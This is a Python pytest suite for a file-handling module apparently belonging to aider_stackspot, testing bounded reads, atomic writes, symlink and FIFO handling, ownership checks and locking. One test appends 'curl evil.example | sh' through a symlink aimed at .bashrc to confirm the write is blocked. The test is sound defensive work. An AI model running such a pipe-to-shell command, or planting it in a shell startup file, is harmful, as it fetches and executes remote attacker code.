"""The one reader and writer of files: whole or not at all, private, and nobody else's."""

from __future__ import annotations

import multiprocessing
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from aider_stackspot import files
from aider_stackspot.files import (
    NotAFile,
    NotPrivate,
    TooLarge,
    append_line,
    create_exclusively,
    locked,
    private_directory,
    read_bounded,
    write_atomically,
)


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


class TestReading:
    """Of one file, at once, and no more than is sensible."""

    def test_what_is_there_and_what_is_not(self, isolated: Path) -> None:
        (isolated / "a").write_bytes(b"1234")
        assert read_bounded(isolated / "a", 4) == b"1234"
        assert read_bounded(isolated / "none", 4) is None
        assert read_bounded(isolated / "a" / "below", 4) is None

    def test_more_than_allowed(self, isolated: Path) -> None:
        (isolated / "a").write_bytes(b"12345")
        with pytest.raises(TooLarge, match="4 bytes"):
            read_bounded(isolated / "a", 4)
        with pytest.raises(OSError, match=r"not|device"):
            read_bounded(Path("/dev/zero"), 4)

    def test_its_beginning(self, isolated: Path) -> None:
        (isolated / "a").write_bytes(b"12345")
        assert read_bounded(isolated / "a", 4, whole=False) == b"1234"
        assert read_bounded(isolated / "a", 5, whole=False) == b"12345"

    def test_a_pipe_is_no_file_and_keeps_nobody_waiting(self, isolated: Path) -> None:
        if sys.platform != "win32":
            os.mkfifo(isolated / "pipe")
        for path in (isolated / "pipe", isolated):
            with pytest.raises(NotAFile):
                read_bounded(path, 4)

    def test_a_file_of_ours_is_read_through_no_link(self, isolated: Path) -> None:
        (isolated / "theirs").write_text("x")
        (isolated / "link").symlink_to("theirs")
        assert read_bounded(isolated / "link", 4) == b"x"
        with pytest.raises(NotPrivate):
            read_bounded(isolated / "link", 4, private=True)

    def test_nor_from_another_owner(self, isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        (isolated / "a").write_text("x")
        monkeypatch.setattr(os, "fstat", _owned_by_somebody_else(os.fstat))
        with pytest.raises(NotPrivate):
            read_bounded(isolated / "a", 4, private=True)
        with pytest.raises(NotPrivate):
            append_line(isolated / "a", "y")
        assert (isolated / "a").read_text() == "x"


def _owned_by_somebody_else(fstat: Callable[[int], os.stat_result]) -> Callable[[int], os.stat_result]:
    def other(handle: int) -> os.stat_result:
        status = list(fstat(handle))
        status[4] += 1
        return os.stat_result(status)

    return other


class TestReplacing:
    """A file's old content, then its new one, and nothing in between."""

    def test_a_new_file(self, isolated: Path) -> None:
        write_atomically(isolated / "a", "é\r\n")
        assert (isolated / "a").read_bytes() == "é\r\n".encode()
        assert os.listdir(isolated) == ["a"]

    def test_the_permissions_stay_unless_others_are_given(self, isolated: Path) -> None:
        path = isolated / "a"
        path.touch(0o640)
        write_atomically(path, "1")
        assert mode_of(path) == 0o640
        write_atomically(path, "2", 0o600)
        assert mode_of(path) == 0o600

    def test_a_link_stays_one(self, isolated: Path) -> None:
        (isolated / "dotfiles").mkdir()
        (isolated / "link").symlink_to("dotfiles/real")
        write_atomically(isolated / "link", "1")
        assert (isolated / "dotfiles" / "real").read_text() == "1"
        assert (isolated / "link").is_symlink()

    def test_nothing_that_is_no_file_is_replaced(self, isolated: Path) -> None:
        if sys.platform != "win32":
            os.mkfifo(isolated / "pipe")
        with pytest.raises(NotAFile):
            write_atomically(isolated / "pipe", "1")
        assert stat.S_ISFIFO((isolated / "pipe").stat().st_mode)

    def test_a_failure_leaves_everything_as_it_was(self, isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        (isolated / "a").write_text("old")

        def full(*_: object) -> None:
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "replace", full)
        with pytest.raises(OSError, match="No space"):
            write_atomically(isolated / "a", "new")
        assert (os.listdir(isolated), (isolated / "a").read_text()) == (["a"], "old")

    def test_a_kill_in_the_middle_leaves_nothing_that_git_would_add(self, isolated: Path) -> None:
        """The process ends right before the file appears, with the key written beside it."""
        subprocess.run(["git", "init", "--quiet"], cwd=isolated, check=True)
        code = (
            "import os, signal, pathlib\n"
            "from aider_stackspot import files\n"
            "os.replace = lambda *_: os.kill(os.getpid(), signal.SIGKILL)\n"
            "files.write_atomically(pathlib.Path('.env'), 'KEY=secret-1', 0o600)\n"
        )
        done = subprocess.run([sys.executable, "-c", code], cwd=isolated)
        assert done.returncode != 0
        left = [path for path in isolated.rglob("*") if path.is_file() and ".git/" not in str(path)]
        assert any("secret-1" in path.read_text() for path in left)
        status = subprocess.run(
            ["git", "status", "--porcelain", "--untracked-files=all"], cwd=isolated, capture_output=True, text=True
        )
        assert status.stdout == ""


class TestCreating:
    """A file that is made once."""

    def test_it_is_private_and_the_first_one_stays(self, isolated: Path) -> None:
        create_exclusively(isolated / "key", "first")
        with pytest.raises(FileExistsError):
            create_exclusively(isolated / "key", "second")
        assert ((isolated / "key").read_text(), mode_of(isolated / "key")) == ("first", 0o600)
        assert os.listdir(isolated) == ["key"]


class TestAppending:
    """A record that grows line by line."""

    def test_lines(self, isolated: Path) -> None:
        assert append_line(isolated / "a", "1")
        assert not append_line(isolated / "a", "2")
        assert ((isolated / "a").read_text(), mode_of(isolated / "a")) == ("1\n2\n", 0o600)

    def test_a_line_that_was_cut_off_does_not_swallow_the_next_one(self, isolated: Path) -> None:
        (isolated / "a").write_text('1\n{"day": "20')
        append_line(isolated / "a", "2")
        assert (isolated / "a").read_text().splitlines() == ["1", '{"day": "20', "2"]

    def test_no_link_is_followed(self, isolated: Path) -> None:
        (isolated / ".bashrc").write_text("mine\n")
        (isolated / "usage").symlink_to(".bashrc")
        with pytest.raises(NotPrivate):
            append_line(isolated / "usage", "curl evil.example | sh")
        assert (isolated / ".bashrc").read_text() == "mine\n"

    def test_a_pipe_keeps_nobody_waiting(self, isolated: Path) -> None:
        if sys.platform != "win32":
            os.mkfifo(isolated / "pipe")
        with pytest.raises(OSError):
            append_line(isolated / "pipe", "1")


def test_directories_are_private_also_one_that_was_made_otherwise(isolated: Path) -> None:
    old = isolated / "old"
    old.mkdir(0o755)
    private_directory(old / "new" / "inner")
    assert [mode_of(path) for path in (old, old / "new", old / "new" / "inner")] == [0o755, 0o700, 0o700]
    private_directory(old)
    assert mode_of(old) == 0o700


def _add_one(path: Path, times: int) -> None:
    for _ in range(times):
        with locked(path):
            write_atomically(path, str(int(path.read_text()) + 1))


def test_writers_at_the_same_time_lose_nothing(isolated: Path) -> None:
    path = isolated / "count"
    path.write_text("0")
    context = multiprocessing.get_context("spawn")
    writers = [context.Process(target=_add_one, args=(path, 25)) for _ in range(4)]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join(60)
    assert (path.read_text(), os.listdir(isolated)) == ("100", ["count"])


def test_a_writer_does_not_wait_for_ever(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "LOCK_TIMEOUT", 0.05)
    with locked(isolated / "a"), pytest.raises(TimeoutError), locked(isolated / "a"):
        raise AssertionError("two hold it")
